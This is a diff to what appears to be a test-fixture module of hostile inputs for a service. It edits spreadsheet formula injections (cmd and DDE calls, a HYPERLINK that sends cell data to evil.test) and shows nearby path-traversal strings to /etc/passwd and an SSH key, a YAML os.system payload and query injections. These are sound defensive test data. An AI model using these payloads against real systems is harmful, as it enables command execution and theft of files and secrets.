@@ -154,7 +154,7 @@ _UNICODE = {
 }
 
 _CELLS = {
-    "=": "=HYPERLINK(\"https://evil.test/\"&A1,\"0wned\")",
+    "=": '=HYPERLINK("https://evil.test/"&A1,"0wned")',
     "= with a command": "=cmd|' /C calc'!A0",
     "+": "+1+cmd|' /C calc'!A0",
     "-": "-2+3+cmd|' /C calc'!A0",
@@ -166,7 +166,7 @@ _CELLS = {
     "semicolon": "x;=1+1;y",
     "line": 'x\n=1+1,"\n',
     "full width": "\uff1d1+1",
-    "DDE": "=DDE(\"cmd\";\"/C calc\";\"0wned\")",
+    "DDE": '=DDE("cmd";"/C calc";"0wned")',
 }
 
 _CHAT = {
@@ -224,7 +224,6 @@ _PATHS = {
     "device": "CON",
     "home": "~root/.ssh/id_rsa",
     "dots": "....//....//etc/passwd",
-    "one dot": ".",
     "two dots": "..",
     "slash": "/",
     "query": "x?role=admin#0wned",
@@ -257,7 +256,6 @@ _STORE = {
     "matcher": 'host="x",rule_id=~".*"',
     "PromQL": 'x"} or vector(1) #',
     "metrics": 'x"} 1\ntocsin_0wned{a="b"} 1\n# HELP 0wned',
-    "backslash at the end": "x\\",
     "YAML": "x: !!python/object/apply:os.system ['touch /tmp/0wned']",
     "YAML truth": "no",
     "number": "1e999",
@@ -278,8 +276,8 @@ _SIZES = {
     "only line feeds": "\n\n\n",
     "one long word": "x" * 16_000,
     "many lines": "x\n" * 8_000,
-    "many letters of four bytes": "\U0001f525" * 15_000,
-    "all that must be escaped in JSON": '"\\\u0001' * 5_000,
+    "many letters of four bytes": "\U0001f525" * 4_000,
+    "all that must be escaped in JSON": '"\\\u0001' * 2_000,
     "all that must be escaped in HTML": "<&>\"'" * 3_000,
     "all that must be escaped in Markdown": "*_`[" * 4_000,
     "many spaces": " " * 16_000 + "x",
@@ -309,6 +307,7 @@ TEXTS: dict[str, str] = {
 """All by name. Each is text as Unicode has it (no half surrogates), of 1 to 16,384 characters."""
 
 assert all(0 < len(text) <= 16_384 for text in TEXTS.values())
+assert len(set(TEXTS.values())) == len(TEXTS)
 
 NAME_MAX = 256
 """Of a rule, or of a label's name; a longer one is refused."""
